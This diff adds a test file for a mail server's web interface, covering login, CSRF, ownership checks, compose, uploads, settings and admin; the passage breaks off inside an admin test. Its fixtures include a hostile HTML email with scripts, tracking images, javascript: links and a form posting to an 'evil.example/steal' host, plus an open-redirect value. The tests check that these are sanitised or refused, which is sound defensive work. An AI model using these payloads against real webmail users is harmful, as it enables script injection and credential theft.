@@ -1,0 +1,986 @@
+"""The web interface over real HTTP against the live server: sessions, CSRF, ownership (another
+account's ids are 404), every page and action, compose/send through the submission path,
+uploads and their limits, live updates, settings, admin, autoconfig."""
+
+from __future__ import annotations
+
+import json
+import plistlib
+import re
+import socket
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import httpx
+import pytest
+
+from pillarbox.mail.parse import parse_message
+from pillarbox.store.types import INBOX, NewQueueRecipient, SpecialUse
+from pillarbox.testing.live import TEST_PASSWORD, LiveServer, loopback_config
+from pillarbox.testing.webclient import (
+    WebSession,
+    deliver,
+    mailbox_id,
+    simple_message,
+    special_mailbox_id,
+)
+
+pytestmark = pytest.mark.listeners("http")
+
+ALICE = "alice@example.org"
+BOB = "bob@example.org"
+
+
+@pytest.fixture
+def alice(live: LiveServer) -> Iterator[WebSession]:
+    session = WebSession(live)
+    assert session.login(ALICE).status_code == 303
+    yield session
+    session.close()
+
+
+@pytest.fixture
+def admin(live: LiveServer) -> Iterator[WebSession]:
+    live.add_account("root@example.org", TEST_PASSWORD, is_admin=True)
+    session = WebSession(live)
+    assert session.login("root@example.org").status_code == 303
+    yield session
+    session.close()
+
+
+def uids_in(live: LiveServer, address: str, name: str = INBOX) -> list[int]:
+    box = mailbox_id(live, address, name)
+    return [r.uid for r in live.call(live.store.list_messages(box))]
+
+
+def flags_of(live: LiveServer, box: int, uid: int) -> frozenset[str]:
+    record = live.call(live.store.get_message(box, uid))
+    assert record is not None
+    return record.flags
+
+
+def raw_in(live: LiveServer, box: int, uid: int) -> bytes:
+    record = live.call(live.store.get_message(box, uid))
+    assert record is not None
+    return live.call(live.store.read_blob(record.blob_id))
+
+
+# -- sessions and login --------------------------------------------------------------------------
+
+
+def test_login_sets_a_hardened_cookie_and_headers(live: LiveServer) -> None:
+    web = WebSession(live)
+    page = web.get("/login")
+    cookie = page.headers["set-cookie"]
+    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie and "Secure" not in cookie
+    assert "script-src 'self'" in page.headers["content-security-policy"]
+    assert page.headers["x-content-type-options"] == "nosniff"
+    assert page.headers["x-frame-options"] == "SAMEORIGIN"
+    response = web.login(ALICE)
+    assert response.status_code == 303 and response.headers["location"] == "/mail"
+    assert "pb_session=" in response.headers["set-cookie"]
+    assert web.get("/mail", follow_redirects=True).url.path == f"/mail/{mailbox_id(live, ALICE)}"
+
+
+def test_wrong_password_then_rate_limited(live: LiveServer) -> None:
+    web = WebSession(live)
+    statuses = [web.login(ALICE, "wrong password!").status_code for _ in range(6)]
+    assert statuses[0] == 401
+    assert 429 in statuses
+    limited = web.login(ALICE)  # even the right password waits now
+    assert limited.status_code == 429 and "Try again" in limited.text
+
+
+def test_login_without_csrf_token_is_refused(live: LiveServer) -> None:
+    web = WebSession(live)
+    web.get("/login")
+    response = web.client.post(
+        "/login", data={"username": ALICE, "password": TEST_PASSWORD, "next": "/mail"}
+    )
+    assert response.status_code == 303
+    assert response.headers["location"].startswith("/login?")
+    assert "reason=stale" in response.headers["location"]
+    assert web.get("/mail").status_code == 303  # not logged in
+
+
+def test_login_redirect_stays_on_this_site(live: LiveServer) -> None:
+    web = WebSession(live)
+    token = web.csrf()
+    response = web.client.post(
+        "/login",
+        data={"csrf": token, "username": ALICE, "password": TEST_PASSWORD, "next": "//evil.test/"},
+    )
+    assert response.headers["location"] == "/mail"
+
+
+def test_logout_ends_the_session(alice: WebSession) -> None:
+    assert alice.get("/settings").status_code == 200
+    assert alice.post("/logout").status_code == 303
+    assert alice.get("/settings").headers["location"].startswith("/login?next=%2Fsettings")
+
+
+def test_forged_cookie_is_anonymous(live: LiveServer, alice: WebSession) -> None:
+    value = alice.client.cookies["pb_session"]
+    body, _, mac = value.partition(".")
+    alice.client.cookies.clear()
+    alice.client.cookies.set("pb_session", body + "." + mac[::-1])
+    assert alice.get("/settings").status_code == 303
+
+
+AUTH_PAGES = [
+    "/mail",
+    "/mail/1",
+    "/mail/1/1",
+    "/mail/1/1/frame",
+    "/mail/1/1/part/1",
+    "/mail/1/1/source",
+    "/compose",
+    "/settings",
+    "/settings/mobileconfig",
+    "/admin",
+    "/admin/queue",
+]
+
+
+@pytest.mark.parametrize("path", AUTH_PAGES)
+def test_pages_require_login(live: LiveServer, path: str) -> None:
+    response = WebSession(live).get(path)
+    assert response.status_code == 303
+    assert response.headers["location"].startswith("/login?next=")
+
+
+def test_event_stream_requires_login(live: LiveServer) -> None:
+    assert WebSession(live).get("/events").status_code == 401
+
+
+@pytest.mark.parametrize(
+    ("method", "path"),
+    [("GET", "/me"), ("GET", "/mailboxes"), ("POST", "/send"), ("GET", "/admin/domains")],
+)
+def test_api_requires_credentials(live: LiveServer, method: str, path: str) -> None:
+    response = WebSession(live).client.request(method, "/api/v1" + path, json={})
+    assert response.status_code == 401
+    assert response.json() == {"error": "authentication required"}
+
+
+CSRF_POSTS = [
+    ("/logout", {}),
+    ("/folders", {"name": "Sneaky"}),
+    ("/mail/{inbox}/actions", {"uid": "{uid}", "action": "delete"}),
+    ("/mail/{inbox}/empty", {}),
+    ("/compose", {"to": BOB, "subject": "forged", "body": "x", "action": "send"}),
+    ("/settings/profile", {"display_name": "Mallory"}),
+    ("/settings/api-token", {"label": "stolen"}),
+    ("/settings/vacation", {"vacation_enabled": "1", "vacation_body": "forged"}),
+]
+
+
+@pytest.mark.parametrize(("path", "data"), CSRF_POSTS)
+def test_state_changes_without_csrf_are_refused(
+    live: LiveServer, alice: WebSession, path: str, data: dict[str, str]
+) -> None:
+    inbox = mailbox_id(live, ALICE)
+    _, uid = deliver(live, ALICE, simple_message())
+    url = path.format(inbox=inbox)
+    fields = {k: v.format(uid=uid) for k, v in data.items()}
+    for token in (None, "not-the-token"):
+        sent = dict(fields) if token is None else {**fields, "csrf": token}
+        response = alice.post(url, sent, csrf=False)
+        assert response.status_code == 303
+        assert "reason=stale" in response.headers["location"]
+    assert uids_in(live, ALICE) == [uid]
+    assert uids_in(live, BOB) == []
+    assert alice.get("/settings").status_code == 200  # still logged in
+    account = live.call(live.store.get_account(ALICE))
+    assert account is not None and account.display_name == ""
+
+
+def test_api_session_calls_need_the_csrf_header(alice: WebSession) -> None:
+    response = alice.client.post("/api/v1/mailboxes", json={"name": "X"})
+    assert response.status_code == 403
+    assert alice.api("POST", "/mailboxes", {"name": "X"}).status_code == 201
+
+
+# -- ownership: another account's ids are 404 -------------------------------------------------
+
+
+def test_another_accounts_message_is_not_found(live: LiveServer, alice: WebSession) -> None:
+    bob_box, bob_uid = deliver(live, BOB, simple_message("for bob only"))
+    base = f"/mail/{bob_box}/{bob_uid}"
+    for path in (
+        f"/mail/{bob_box}",
+        base,
+        base + "/frame",
+        base + "/part/1",
+        base + "/source",
+        f"/compose?reply={bob_box}:{bob_uid}",
+        f"/compose?forward={bob_box}:{bob_uid}",
+    ):
+        response = alice.get(path)
+        assert response.status_code == 404, path
+        assert "for bob only" not in response.text
+    for action in ("read", "delete", "spam"):
+        assert (
+            alice.post(f"/mail/{bob_box}/actions", {"uid": bob_uid, "action": action}).status_code
+            == 404
+        )
+    assert alice.post(f"/mail/{bob_box}/empty").status_code == 404
+    assert alice.post(f"/mail/{bob_box}/delete").status_code == 404
+    inbox = mailbox_id(live, ALICE)
+    moved = alice.post(f"/mail/{inbox}/actions", {"uid": 1, "action": "move", "target": bob_box})
+    assert moved.status_code == 404
+    api = f"/mailboxes/{bob_box}/messages/{bob_uid}"
+    for path in (api, api + "/raw", api + "/parts/1", f"/mailboxes/{bob_box}/messages"):
+        assert alice.api("GET", path).status_code == 404
+    assert (
+        alice.api(
+            "POST", f"/mailboxes/{bob_box}/actions", {"action": "delete", "uids": [bob_uid]}
+        ).status_code
+        == 404
+    )
+    sent = alice.post(
+        "/compose",
+        {
+            "to": BOB,
+            "subject": "x",
+            "body": "y",
+            "action": "send",
+            "forwarding": f"{bob_box}:{bob_uid}",
+        },
+    )
+    assert sent.status_code == 404
+    assert uids_in(live, BOB) == [bob_uid]
+    assert "\\Seen" not in flags_of(live, bob_box, bob_uid)
+
+
+# -- list, view, parts ---------------------------------------------------------------------------
+
+
+def test_list_pages_sorts_and_filters(live: LiveServer, alice: WebSession) -> None:
+    for n in range(7):
+        deliver(
+            live,
+            ALICE,
+            simple_message(f"subject {n:02}", f"body number {n}", sender=f"s{n}@example.net"),
+        )
+    inbox = mailbox_id(live, ALICE)
+    page1 = alice.get(f"/mail/{inbox}?size=3&sort=subject&order=asc")
+    assert page1.status_code == 200
+    subjects = re.findall(r"subject \d\d", page1.text)
+    assert subjects == ["subject 00", "subject 01", "subject 02"]
+    assert "1–3 of 7" in page1.text and 'rel="next"' in page1.text
+    page3 = alice.get(f"/mail/{inbox}?size=3&sort=subject&order=asc&page=3")
+    assert re.findall(r"subject \d\d", page3.text) == ["subject 06"]
+    desc = alice.get(f"/mail/{inbox}?sort=subject&order=desc")
+    assert re.findall(r"subject \d\d", desc.text)[0] == "subject 06"
+    found = alice.get(f"/mail/{inbox}?q=%22number+4%22")
+    assert re.findall(r"subject \d\d", found.text) == ["subject 04"]
+    by_sender = alice.get(f"/mail/{inbox}?from=s5@")
+    assert re.findall(r"subject \d\d", by_sender.text) == ["subject 05"]
+    unread = alice.get(f"/mail/{inbox}?unseen=1")
+    assert len(re.findall(r"subject \d\d", unread.text)) == 7
+    assert alice.get(f"/mail/{inbox}?since=2030-01-01").text.count("subject 0") == 0
+
+
+def test_message_view_marks_read_and_shows_headers(live: LiveServer, alice: WebSession) -> None:
+    raw = simple_message(
+        "=?utf-8?q?Gr=C3=BC=C3=9Fe?=",
+        "Plain body & <b>not bold</b>",
+        headers="Cc: Dave <dave@example.net>\r\n"
+        "Authentication-Results: mx.test; spf=pass smtp.mailfrom=example.net; dkim=fail\r\n"
+        "Authentication-Results: forged.example; dmarc=pass\r\n",
+    )
+    box, uid = deliver(live, ALICE, raw)
+    page = alice.get(f"/mail/{box}/{uid}")
+    assert page.status_code == 200
+    assert "Grüße" in page.text
+    assert "Dave &lt;dave@example.net&gt;" in page.text
+    assert "Plain body &amp; &lt;b&gt;not bold&lt;/b&gt;" in page.text
+    assert "SPF pass" in page.text and "DKIM fail" in page.text
+    assert "DMARC" not in page.text  # another server's Authentication-Results is ignored
+    assert "\\Seen" in flags_of(live, box, uid)
+    source = alice.get(f"/mail/{box}/{uid}/source")
+    assert source.headers["content-type"].startswith("text/plain")
+    assert source.headers["content-security-policy"] == "default-src 'none'; sandbox"
+    assert "=?utf-8?q?Gr=C3=BC=C3=9Fe?=" in source.text
+
+
+HOSTILE = (
+    b"From: Mallory <m@evil.example>\r\nTo: alice@example.org\r\nSubject: hostile\r\n"
+    b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n'
+    b"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
+    b"<html><head><script>alert('head')</script><style>body{background:url(http://evil.example/bg)}</style></head>"
+    b'<body onload="alert(\'onload\')"><h1>Offer</h1><img src="http://evil.example/track.png">'
+    b'<img src="cid:logo@x"><a href="javascript:alert(\'link\')">click</a>'
+    b'<form action="http://evil.example/steal"><input name="p"></form>'
+    b'<iframe src="http://evil.example/"></iframe><svg onload="alert(1)"></svg>'
+    b'<a href="https://ok.example/">ok</a></body></html>\r\n'
+    b"--b\r\nContent-Type: image/png\r\nContent-ID: <logo@x>\r\n"
+    b"Content-Transfer-Encoding: base64\r\n\r\n"
+    b"iVBORw0KGgo=\r\n--b--\r\n"
+)
+
+
+def test_hostile_html_is_sanitised_and_framed(live: LiveServer, alice: WebSession) -> None:
+    box, uid = deliver(live, ALICE, HOSTILE)
+    page = alice.get(f"/mail/{box}/{uid}")
+    assert "1 remote image blocked" in page.text
+    assert 'sandbox="allow-same-origin allow-popups' in page.text
+    assert "allow-scripts" not in page.text
+    frame = alice.get(f"/mail/{box}/{uid}/frame")
+    csp = frame.headers["content-security-policy"]
+    assert "default-src 'none'" in csp and "sandbox" in csp and "https:" not in csp
+    body = frame.text
+    for bad in ("<script", "onload", "javascript:", "<form", "<iframe", "evil.example", "alert"):
+        assert bad not in body, bad
+    assert f'src="/mail/{box}/{uid}/part/2?inline=1"' in body
+    assert 'href="https://ok.example/"' in body and 'rel="noopener noreferrer"' in body
+    loaded = alice.get(f"/mail/{box}/{uid}/frame?images=1")
+    assert 'src="http://evil.example/track.png"' in loaded.text
+    assert "img-src 'self' data: https: http:" in loaded.headers["content-security-policy"]
+    image = alice.get(f"/mail/{box}/{uid}/part/2?inline=1")
+    assert image.headers["content-type"] == "image/png"
+    assert image.content.startswith(b"\x89PNG")
+
+
+def test_attachment_download(live: LiveServer, alice: WebSession) -> None:
+    raw = (
+        b"From: c@example.net\r\nTo: alice@example.org\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
+        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
+        b"--b\r\nContent-Type: text/plain\r\n\r\n"
+        b"see attached\r\n--b\r\nContent-Type: text/html\r\n"
+        b"Content-Disposition: attachment; filename*=utf-8''r%C3%A9sum%C3%A9.html\r\n\r\n"
+        b"<script>alert(1)</script>\r\n--b--\r\n"
+    )
+    box, uid = deliver(live, ALICE, raw)
+    page = alice.get(f"/mail/{box}/{uid}")
+    assert "résumé.html" in page.text
+    download = alice.get(f"/mail/{box}/{uid}/part/2")
+    assert download.headers["content-type"] == "application/octet-stream"
+    assert download.headers["content-disposition"].startswith("attachment;")
+    assert "filename*=UTF-8''r%C3%A9sum%C3%A9.html" in download.headers["content-disposition"]
+    assert download.content == b"<script>alert(1)</script>"
+    assert alice.get(f"/mail/{box}/{uid}/part/9").status_code == 404
+    assert alice.get(f"/mail/{box}/{uid}/part/x.y").status_code == 404
+
+
+def test_thread_lists_the_conversation(live: LiveServer, alice: WebSession) -> None:
+    box, first = deliver(live, ALICE, simple_message("Plan", message_id="<p1@example.net>"))
+    deliver(
+        live,
+        ALICE,
+        simple_message(
+            "Re: Plan",
+            "agreed",
+            message_id="<p2@example.net>",
+            headers="In-Reply-To: <p1@example.net>\r\nReferences: <p1@example.net>\r\n",
+        ),
+    )
+    deliver(live, ALICE, simple_message("Unrelated", message_id="<u@example.net>"))
+    page = alice.get(f"/mail/{box}/{first}")
+    assert "Conversation (2)" in page.text and "Re: Plan" in page.text
+    assert "Unrelated" not in page.text.split("Conversation")[1]
+
+
+# -- actions -------------------------------------------------------------------------------------
+
+
+def test_flag_read_move_delete_spam_and_empty(live: LiveServer, alice: WebSession) -> None:
+    inbox = mailbox_id(live, ALICE)
+    uids = [deliver(live, ALICE, simple_message(f"m{n}"))[1] for n in range(4)]
+    act = f"/mail/{inbox}/actions"
+    assert alice.post(act, {"uid": uids[:2], "action": "read"}).status_code == 303
+    assert "\\Seen" in flags_of(live, inbox, uids[0]) and "\\Seen" in flags_of(live, inbox, uids[1])
+    alice.post(act, {"uid": [uids[0]], "action": "unread"})
+    assert "\\Seen" not in flags_of(live, inbox, uids[0])
+    alice.post(act, {"uid": [uids[2]], "action": "flag"})
+    assert "\\Flagged" in flags_of(live, inbox, uids[2])
+    flagged = alice.get(f"/mail/{inbox}?flagged=1")
+    assert re.findall(r">m\d<", flagged.text) == [">m2<"]
+    archive = special_mailbox_id(live, ALICE, SpecialUse.ARCHIVE)
+    alice.post(act, {"uid": [uids[0]], "action": "move", "target": archive})
+    assert len(uids_in(live, ALICE, "Archive")) == 1
+    alice.post(act, {"uid": [uids[1]], "action": "spam"})
+    [junk_uid] = uids_in(live, ALICE, "Junk")
+    junk = special_mailbox_id(live, ALICE, SpecialUse.JUNK)
+    assert "$Junk" in flags_of(live, junk, junk_uid)
+    alice.post(f"/mail/{junk}/actions", {"uid": [junk_uid], "action": "notspam"})
+    assert uids_in(live, ALICE, "Junk") == []
+    back = uids_in(live, ALICE)[-1]
+    assert "$NotJunk" in flags_of(live, inbox, back) and "$Junk" not in flags_of(live, inbox, back)
+    alice.post(act, {"uid": [uids[3]], "action": "delete"})
+    assert len(uids_in(live, ALICE, "Trash")) == 1
+    trash = special_mailbox_id(live, ALICE, SpecialUse.TRASH)
+    assert alice.post(f"/mail/{inbox}/empty").status_code == 400  # only Trash and Junk
+    assert alice.post(f"/mail/{trash}/empty").status_code == 303
+    assert uids_in(live, ALICE, "Trash") == []
+    assert alice.post(act, {"uid": [back], "action": "explode"}).status_code == 400
+
+
+def test_folders_create_rename_delete(live: LiveServer, alice: WebSession) -> None:
+    created = alice.post("/folders", {"name": "Projects/2024"})
+    assert created.status_code == 303
+    new_id = int(created.headers["location"].rsplit("/", 1)[1])
+    assert "2024" in alice.get(f"/mail/{new_id}").text
+    assert alice.post(f"/mail/{new_id}/rename", {"name": "Projects/2025"}).status_code == 303
+    names = {
+        m.name
+        for m in live.call(live.store.list_mailboxes(live.call(live.store.get_account(ALICE)).id))
+    }  # type: ignore[union-attr]
+    assert "Projects/2025" in names and "Projects/2024" not in names
+    assert alice.post(f"/mail/{new_id}/delete").status_code == 303
+    inbox = mailbox_id(live, ALICE)
+    refused = alice.post(f"/mail/{inbox}/delete")
+    assert refused.status_code == 400 and "cannot be deleted" in refused.text
+    assert alice.post("/folders", {"name": "bad*name"}).status_code == 400
+
+
+# -- compose -------------------------------------------------------------------------------------
+
+
+def test_send_with_attachment_reaches_a_local_user(live: LiveServer, alice: WebSession) -> None:
+    response = alice.post(
+        "/compose",
+        {
+            "to": "Bob <bob@example.org>",
+            "subject": "Report ✓",
+            "body": "See the file.\n",
+            "action": "send",
+        },
+        files={"attachment": ("data.bin", b"\x00\x01binary", "application/octet-stream")},
+    )
+    assert response.status_code == 303
+    assert "sent=1" in response.headers["location"]
+    [bob_uid] = uids_in(live, BOB)
+    raw = raw_in(live, mailbox_id(live, BOB), bob_uid)
+    assert b"Received:" in raw
+    assert parse_message(raw).subject == "Report ✓"
+    assert b'filename="data.bin"' in raw and b"Bcc" not in raw
+    [sent_uid] = uids_in(live, ALICE, "Sent")
+    sent = special_mailbox_id(live, ALICE, SpecialUse.SENT)
+    assert "\\Seen" in flags_of(live, sent, sent_uid)
+    bob = WebSession(live)
+    bob.login(BOB)
+    page = bob.get(f"/mail/{mailbox_id(live, BOB)}/{bob_uid}")
+    assert "Report ✓" in page.text and "data.bin" in page.text
+    download = bob.get(f"/mail/{mailbox_id(live, BOB)}/{bob_uid}/part/2")
+    assert download.content == b"\x00\x01binary"
+
+
+def test_invalid_addresses_are_shown_inline(live: LiveServer, alice: WebSession) -> None:
+    response = alice.post(
+        "/compose",
+        {
+            "to": "bob@example.org, not an address",
+            "cc": "x@",
+            "subject": "s",
+            "body": "kept text",
+            "action": "send",
+        },
+    )
+    assert response.status_code == 400
+    assert 'id="e-to"' in response.text and "not an address" in response.text
+    assert 'id="e-cc"' in response.text
+    assert "kept text" in response.text  # the draft is not lost
+    assert uids_in(live, BOB) == []
+    empty = alice.post("/compose", {"to": "", "subject": "s", "body": "b", "action": "send"})
+    assert empty.status_code == 400 and "add at least one recipient" in empty.text
+
+
+def test_unknown_local_recipient_is_refused(live: LiveServer, alice: WebSession) -> None:
+    response = alice.post(
+        "/compose", {"to": "nobody@example.org", "subject": "s", "body": "b", "action": "send"}
+    )
+    assert response.status_code == 400
+    assert "nobody@example.org" in response.text
+    assert uids_in(live, ALICE, "Sent") == []
+
+
+def test_reply_quotes_and_threads(live: LiveServer, alice: WebSession) -> None:
+    box, uid = deliver(
+        live,
+        ALICE,
+        simple_message(
+            "Lunch?",
+            "Shall we meet\nat noon?",
+            sender="bob@example.org",
+            to="alice@example.org, carol@example.net",
+            message_id="<lunch@example.org>",
+            headers="References: <earlier@example.org>\r\n",
+        ),
+    )
+    page = alice.get(f"/compose?reply={box}:{uid}&all=1")
+    assert 'value="Re: Lunch?"' in page.text
+    assert "&gt; Shall we meet\n&gt; at noon?" in page.text
+    assert 'name="references" value="earlier@example.org lunch@example.org"' in page.text
+    assert "carol@example.net" in page.text  # reply-all keeps the other recipient
+    to = re.search(r'id="f-to" name="to" value="([^"]*)"', page.text)
+    assert to is not None and "bob@example.org" in to.group(1) and ALICE not in to.group(1)
+    response = alice.post(
+        "/compose",
+        {
+            "to": "bob@example.org",
+            "subject": "Re: Lunch?",
+            "body": "Yes.",
+            "in_reply_to": "<lunch@example.org>",
+            "references": "<earlier@example.org> <lunch@example.org>",
+            "replying_to": f"{box}:{uid}",
+            "action": "send",
+        },
+    )
+    assert response.status_code == 303
+    raw = raw_in(live, mailbox_id(live, BOB), uids_in(live, BOB)[0])
+    assert b"In-Reply-To: <lunch@example.org>" in raw
+    assert b"References: <earlier@example.org> <lunch@example.org>" in raw
+    assert "\\Answered" in flags_of(live, box, uid)
+
+
+def test_forward_carries_attachments(live: LiveServer, alice: WebSession) -> None:
+    raw = (
+        b"From: c@example.net\r\nTo: alice@example.org\r\nSubject: pics\r\nMIME-Version: 1.0\r\n"
+        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
+        b"--b\r\nContent-Type: text/plain\r\n\r\n"
+        b"original text\r\n--b\r\nContent-Type: image/png; name=a.png\r\n"
+        b"Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--b--\r\n"
+    )
+    box, uid = deliver(live, ALICE, raw)
+    page = alice.get(f"/compose?forward={box}:{uid}")
+    assert 'value="Fwd: pics"' in page.text and "original text" in page.text
+    assert (
+        alice.post(
+            "/compose",
+            {
+                "to": BOB,
+                "subject": "Fwd: pics",
+                "body": "fyi",
+                "forwarding": f"{box}:{uid}",
+                "action": "send",
+            },
+        ).status_code
+        == 303
+    )
+    forwarded = raw_in(live, mailbox_id(live, BOB), uids_in(live, BOB)[0])
+    assert b'filename="a.png"' in forwarded and b"iVBORw0KGgo=" in forwarded
+
+
+def test_drafts_save_and_reopen_and_send(live: LiveServer, alice: WebSession) -> None:
+    saved = alice.post(
+        "/compose", {"to": BOB, "subject": "later", "body": "half-written", "action": "save"}
+    )
+    assert saved.status_code == 200 and "Draft saved" in saved.text
+    [draft_uid] = uids_in(live, ALICE, "Drafts")
+    drafts = special_mailbox_id(live, ALICE, SpecialUse.DRAFTS)
+    assert {"\\Draft", "\\Seen"} <= flags_of(live, drafts, draft_uid)
+    reopened = alice.get(f"/compose?draft={drafts}:{draft_uid}")
+    assert (
+        "half-written" in reopened.text and f'name="draft_uid" value="{draft_uid}"' in reopened.text
+    )
+    again = alice.post(
+        "/compose",
+        {"to": BOB, "subject": "later", "body": "done", "draft_uid": draft_uid, "action": "save"},
+    )
+    assert again.status_code == 200
+    [second] = uids_in(live, ALICE, "Drafts")
+    assert second != draft_uid
+    alice.post(
+        "/compose",
+        {"to": BOB, "subject": "later", "body": "done", "draft_uid": second, "action": "send"},
+    )
+    assert uids_in(live, ALICE, "Drafts") == []
+    assert len(uids_in(live, BOB)) == 1
+    inbox = mailbox_id(live, ALICE)
+    assert alice.get(f"/compose?draft={inbox}:1").status_code == 404
+
+
+def test_oversized_upload_is_refused_before_it_is_read(live: LiveServer, alice: WebSession) -> None:
+    cookie = alice.client.cookies["pb_session"]
+    with socket.create_connection(("127.0.0.1", live.port("http")), timeout=10) as sock:
+        sock.sendall(
+            b"POST /compose HTTP/1.1\r\nHost: x\r\n"
+            b"Content-Type: multipart/form-data; boundary=z\r\n"
+            + f"Cookie: pb_session={cookie}\r\nContent-Length: {200 * 1024 * 1024}\r\n\r\n".encode()
+        )
+        reply = b""
+        while chunk := sock.recv(65536):
+            reply += chunk
+    assert reply.startswith(b"HTTP/1.1 413")
+    assert b"the limit is 25 MB" in reply
+
+
+def test_streamed_upload_over_the_limit_is_cut_off(live: LiveServer, alice: WebSession) -> None:
+    chunk = b"x" * (1024 * 1024)
+    token = alice.csrf("/settings")
+
+    def body() -> Iterator[bytes]:
+        yield (
+            f'--z\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n{token}\r\n--z\r\n'
+            'Content-Disposition: form-data; name="attachment"; filename="big.bin"\r\n\r\n'
+        ).encode()
+        for _ in range(40):
+            yield chunk
+
+    try:
+        response = alice.client.post(
+            "/compose", content=body(), headers={"content-type": "multipart/form-data; boundary=z"}
+        )
+    except httpx.HTTPError:
+        pass  # the server may close while the client still sends: also a refusal
+    else:
+        assert response.status_code == 413
+    assert uids_in(live, ALICE, "Drafts") == [] and uids_in(live, ALICE, "Sent") == []
+
+
+def test_stale_session_on_compose_leads_to_login(live: LiveServer) -> None:
+    web = WebSession(live)
+    web.get("/login")
+    response = web.client.post(
+        "/compose",
+        data={"csrf": "old", "to": BOB, "body": "my text", "action": "send"},
+        headers={"referer": f"{web.base}/compose?reply=1:1"},
+    )
+    assert response.status_code == 303
+    location = response.headers["location"]
+    assert location.startswith("/login?next=%2Fcompose%3Freply%3D1%3A1")
+    assert "reason=expired" in location
+    login = web.get(location)
+    assert "Log in again" in login.text
+
+
+# -- live updates ------------------------------------------------------------------------------
+
+
+def test_server_sent_events_announce_new_mail(live: LiveServer, alice: WebSession) -> None:
+    with alice.client.stream("GET", "/events", timeout=10) as stream:
+        assert stream.headers["content-type"].startswith("text/event-stream")
+        lines = stream.iter_lines()
+        assert next(lines) == "retry: 3000"
+        box, _ = deliver(live, ALICE, simple_message("live"))
+        seen: list[str] = []
+        for line in lines:
+            seen.append(line)
+            if line.startswith("data:"):
+                break
+        event = json.loads(seen[-1].removeprefix("data: "))
+        assert "event: change" in seen and event == {"mailbox": box, "kind": "exists"}
+
+
+# -- settings ------------------------------------------------------------------------------------
+
+
+def test_display_name_and_password_change(live: LiveServer, alice: WebSession) -> None:
+    assert alice.post("/settings/profile", {"display_name": "Alice A."}).status_code == 303
+    account = live.call(live.store.get_account(ALICE))
+    assert account is not None and account.display_name == "Alice A."
+    other = WebSession(live)
+    other.login(ALICE)
+    wrong = alice.post(
+        "/settings/password",
+        {
+            "current_password": "nope",
+            "new_password": "another long password",
+            "confirm_password": "another long password",
+        },
+    )
+    assert wrong.status_code == 400 and "current password is wrong" in wrong.text
+    changed = alice.post(
+        "/settings/password",
+        {
+            "current_password": TEST_PASSWORD,
+            "new_password": "another long password",
+            "confirm_password": "another long password",
+        },
+    )
+    assert changed.status_code == 303
+    assert alice.get("/settings").status_code == 200  # this session continues
+    assert other.get("/settings").status_code == 303  # every other one ended
+    assert WebSession(live).login(ALICE, "another long password").status_code == 303
+
+
+def test_api_tokens_authenticate_and_revoke(live: LiveServer, alice: WebSession) -> None:
+    page = alice.post("/settings/api-token", {"label": "script"})
+    secret = re.search(r'id="new-secret">([^<]+)<', page.text)
+    assert secret is not None
+    bearer = {"authorization": f"Bearer {secret.group(1)}"}
+    client = httpx.Client(base_url=alice.base)
+    me = client.get("/api/v1/me", headers=bearer)
+    assert me.status_code == 200 and me.json()["address"] == ALICE
+    created = client.post("/api/v1/mailboxes", json={"name": "ByToken"}, headers=bearer)
+    assert created.status_code == 201  # no CSRF token needed with a bearer token
+    assert client.get("/api/v1/me", headers={"authorization": "Bearer wrong"}).status_code == 401
+    [token] = alice.api("GET", "/tokens").json()
+    assert alice.post(f"/settings/tokens/{token['id']}/revoke").status_code == 303
+    assert client.get("/api/v1/me", headers=bearer).status_code == 401
+
+
+def test_app_passwords_are_issued_and_listed(alice: WebSession) -> None:
+    page = alice.post("/settings/app-password", {"label": "Thunderbird"})
+    secret = re.search(r'id="new-secret">([^<]+)<', page.text)
+    assert secret is not None and re.fullmatch(r"([a-z2-9]{5}-){3}[a-z2-9]{5}", secret.group(1))
+    assert "Thunderbird" in alice.get("/settings").text
+    assert secret.group(1) not in alice.get("/settings").text  # shown once
+
+
+def test_vacation_and_forwarding_are_stored(live: LiveServer, alice: WebSession) -> None:
+    refused = alice.post("/settings/vacation", {"vacation_enabled": "1", "vacation_body": ""})
+    assert refused.status_code == 400 and "auto-reply text" in refused.text
+    assert (
+        alice.post(
+            "/settings/vacation",
+            {
+                "vacation_enabled": "1",
+                "vacation_subject": "Away",
+                "vacation_body": "Back Monday.",
+                "vacation_until": "2030-02-01",
+            },
+        ).status_code
+        == 303
+    )
+    bad = alice.post("/settings/forwarding", {"forward_to": "nope"})
+    assert bad.status_code == 400
+    assert alice.post("/settings/forwarding", {"forward_to": "me@example.net"}).status_code == 303
+    account = live.call(live.store.get_account(ALICE))
+    assert account is not None
+    settings = live.call(live.store.get_settings(account.id))
+    assert settings.vacation_enabled and settings.vacation_body == "Back Monday."
+    assert settings.vacation_until is not None and settings.vacation_until.year == 2030
+    assert settings.forward_to == ("me@example.net",) and not settings.forward_keep_copy
+
+
+# -- admin ---------------------------------------------------------------------------------------
+
+
+def test_admin_is_for_admins_only(alice: WebSession) -> None:
+    assert alice.get("/admin").status_code == 403
+    assert alice.post("/admin/domains/add", {"name": "x.test"}).status_code == 403
+    assert alice.api("GET", "/admin/domains").status_code == 403
+
+
+def test_admin_domains_accounts_aliases(live: LiveServer, admin: WebSession) -> None:
+    assert "Dashboard" in admin.get("/admin").text
+    assert admin.post("/admin/domains/add", {"name": "Example.COM"}).status_code == 303
+    assert live.call(live.store.get_domain("example.com")) is not None
+    records = admin.get("/admin/domains/example.com")
+    assert "v=DMARC1" in records.text and "MX" in records.text
+    assert admin.post("/admin/domains/add", {"name": "bad domain"}).status_code == 400
+    added = admin.post(
+        "/admin/accounts/add",
+        {"address": "dora@example.com", "password": "short", "display_name": "Dora"},
+    )
+    assert added.status_code == 400 and "password rejected" in added.text
+    admin.post(
+        "/admin/accounts/add",
+        {"address": "dora@example.com", "password": TEST_PASSWORD, "quota_mb": "10"},
+    )
+    dora = live.call(live.store.get_account("dora@example.com"))
+    assert dora is not None and dora.quota_bytes == 10 * 1024 * 1024
+    admin.post(
+        "/admin/accounts/quota",
+        {"address": "dora@example.com", "quota_mb": "", "quota_messages": "5"},
+    )
+    dora = live.call(live.store.get_account("dora@example.com"))
